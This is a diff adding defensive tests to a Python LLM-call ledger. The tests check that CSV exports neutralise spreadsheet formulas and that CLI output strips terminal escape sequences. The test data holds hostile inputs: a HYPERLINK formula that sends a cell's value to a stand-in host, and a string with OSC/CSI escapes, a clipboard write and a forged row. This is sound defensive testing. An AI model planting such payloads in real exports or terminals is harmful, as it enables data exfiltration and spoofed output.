@@ -20,6 +20,7 @@ from quoth import ModelsAPI, Settings, Usage
 from quoth._costs import Prices
 from quoth.cli import run
 from quoth.cli._console import Console
+from quoth.cli._terminal import neutralize
 from quoth.errors import ConfigurationError, InputError
 from quoth.instrumentation import CallRecord, Journal
 from quoth.instrumentation.ledger import Ledger, StorageError, _export
@@ -404,6 +405,41 @@ def test_exports_hold_every_row_and_column_and_are_their_owners_alone(ledger, tm
     assert not list(tmp_path.glob("*.partial"))
 
 
+FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("https://x/?"&A1)', "\uff1d1", "-"]
+
+
+def test_a_csv_holds_nothing_that_a_spreadsheet_takes_for_a_formula(ledger, tmp_path):
+    """Tags, names of models, ids of requests: all of them others may have chosen. Numbers stay numbers."""
+    each = [
+        replace(DAYS[0], id=f"{text}{at}", model=text, served_model=text, error_kind=text, finish_reason=text)
+        for at, text in enumerate(FORMULAS)
+    ]
+    keep(ledger, *each)
+    ledger.correct(each[0].id, usd="0", reason="=1")
+    ledger.export(tmp_path / "calls.csv")
+    ledger.export(tmp_path / "calls.jsonl")
+    with (tmp_path / "calls.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(tuple("=+@\t\r\n\uff1d")), cell
+            assert not cell.startswith("-") or float(cell) < 0, cell
+    assert {row["model"].removeprefix("'") for row in rows} == {*FORMULAS}
+    assert any(row["cost_femto"].startswith("-") for row in rows)
+    assert {json.loads(line)["model"] for line in (tmp_path / "calls.jsonl").read_text("utf-8").splitlines()} == {
+        *FORMULAS
+    }
+
+
+def test_a_nul_in_what_others_chose_breaks_no_ledger(ledger):
+    record = replace(
+        DAYS[0], id="nul", model="a\x00b", served_model="\x00", tags={"a\x00": "b\x00c"}, error_kind="\x00"
+    )
+    keep(ledger, record)
+    assert ledger.total().calls == 1
+    assert ledger.check().ok
+
+
 @pytest.mark.parametrize("package", ["pyarrow", "duckdb"])
 def test_parquet_holds_every_row(package, tmp_path):
     pytest.importorskip(package, reason=f"{package} is not installed")
@@ -468,6 +504,40 @@ def test_the_command_shows_sums_checks_and_exports(path, tmp_path, monkeypatch):
     assert len((tmp_path / "calls.csv").read_text().splitlines()) == 3
     assert command("replay")[0] == 0
     assert command("--help")[0] == 0
+
+
+WICKED = "a\x1b]0;title\x07b\x9b2J\u202ec\nfake row  9,999\x1b]52;c;ZXZpbA"
+
+
+class Screen(io.StringIO):
+    """A terminal."""
+
+    def isatty(self):
+        return True
+
+
+@pytest.mark.parametrize("verb", [("show",), ("totals", "--by", "model"), ("totals", "--by", "tag:user"), ("check",)])
+@pytest.mark.parametrize("json_too", [False, True])
+def test_what_others_chose_moves_nothing_on_a_terminal_and_forges_no_row(tmp_path, verb, json_too):
+    path = str(tmp_path / "calls.db")
+    with Ledger.at(path) as ledger:
+        record = replace(DAYS[0], id="wicked", model=WICKED, served_model=WICKED, tags={"user": WICKED})
+        keep(ledger, record, DAYS[1])
+    if verb == ("check",):
+        connection = sqlite3.connect(path)
+        connection.execute("UPDATE quoth_calls SET price_source = ? WHERE id = 'wicked'", (WICKED,))
+        connection.commit()
+        connection.close()
+    for stream in (Screen(), io.StringIO()):
+        console = Console(stdin=None, stdout=stream, stderr=io.StringIO())
+        words = ["ledger", *verb, "--ledger", path, *(["--json"] if json_too else [])]
+        code = run(words, ModelsAPI(Settings()), console, {})
+        shown = stream.getvalue()
+        assert code == (1 if verb == ("check",) else 0)
+        assert not any(line.startswith("fake") for line in shown.splitlines())
+        if stream.isatty():
+            assert neutralize(shown) == shown
+            assert json_too or "$" in shown or verb == ("check",)  # the cell left open hides nothing of the next
 
 
 def test_the_command_says_by_its_exit_code_that_a_row_disagrees(path):
